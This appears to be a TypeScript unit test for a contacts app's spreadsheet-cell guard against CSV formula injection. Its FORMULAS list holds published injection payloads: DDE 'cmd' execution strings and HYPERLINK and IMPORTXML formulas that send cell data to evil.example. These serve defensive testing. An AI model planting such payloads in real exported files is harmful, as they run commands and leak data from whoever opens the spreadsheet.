import { describe, expect, test } from "bun:test";
import { guardCell, unguardCell } from "#contacts/spreadsheet-cell.ts";

/** What a spreadsheet takes for the beginning of a formula (OWASP, CSV Injection). */
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];

const unixLines = (text: string): string => text.replace(/\r\n?/g, "\n");

/** Published attacks. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=1+1";=1+2',
  "x;=1+2",
  "a;b;@c;+d",
  "\t=1+1",
  "\r=1+1",
  "Acme\n=1+1;z",
  "Acme\r=1+1;z",
  "Acme\r\n+1+1;z",
  "Acme\n\n\t@SUM(1;1)",
  "Acme\t=1+1",
];

const HARMLESS = [
  "",
  "Ada",
  "O'Brien",
  "'quoted'",
  "ada@example.com",
  "a=b",
  "x; =y",
  "1-2",
  "'",
  "''a",
  "two\nlines\r\n\r\nmore\t\tx",
];

const FORMULA_SIGNS = STARTS.filter((start) => start.trim() !== "");
const begins = (part: string, starts: readonly string[]): boolean =>
  starts.some((start) => part.startsWith(start));

/** If `;` or a tab separates cells, quotes do not hold them together: then a line end begins a row. */
const runs = (cell: string): boolean =>
  cell.split(";").some((part) => begins(part, STARTS)) ||
  cell.split(/[\t\r\n]/).some((part) => begins(part, FORMULA_SIGNS));

describe("a guarded cell", () => {
  test.each([...FORMULAS, ...STARTS])("does not run: %j", (formula) => {
    expect(runs(formula)).toBe(true);
    expect(runs(guardCell(formula))).toBe(false);
  });

  test.each(HARMLESS)("is left alone where nothing would run: %j", (text) => {
    expect(guardCell(text)).toBe(text);
    expect(unguardCell(text)).toBe(text);
  });

  test("is given back by unguarding, whatever it was", () => {
    const pieces = [...STARTS, "'", ";", "a", " ", '"', ","];
    for (const a of pieces)
      for (const b of pieces)
        for (const c of pieces)
          for (const d of pieces) {
            const text = a + b + c + d;
            if (unguardCell(guardCell(text)) !== text || runs(guardCell(text)))
              expect.unreachable(JSON.stringify(text));
            // The import reads every line end as one LF, before it takes the guard off.
            if (unguardCell(unixLines(guardCell(text))) !== unixLines(text))
              expect.unreachable(`as lines: ${JSON.stringify(text)}`);
          }
  });
});
